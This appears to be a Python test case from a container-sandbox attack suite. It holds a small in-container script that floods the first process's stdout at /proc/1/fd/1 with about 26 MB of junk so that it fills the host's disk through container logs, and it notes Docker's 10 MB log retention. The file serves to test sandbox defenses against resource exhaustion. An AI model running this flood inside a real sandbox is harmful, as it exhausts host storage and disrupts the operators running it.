"""What the container's first process prints fills this machine's disk."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    code = """
    import json
    with open('/proc/1/fd/1', 'w') as out:
        for _ in range(400):
            out.write('x' * 65535 + chr(10))
    print(json.dumps(True))
    """
    return bool(ground.inside(code, timeout_s=60)) and ground.log_bytes() > 15 << 20


ATTACK = Attack("the container's log", attempt, unrecorded="Docker keeps the newest 10 MB and says nothing of it.")
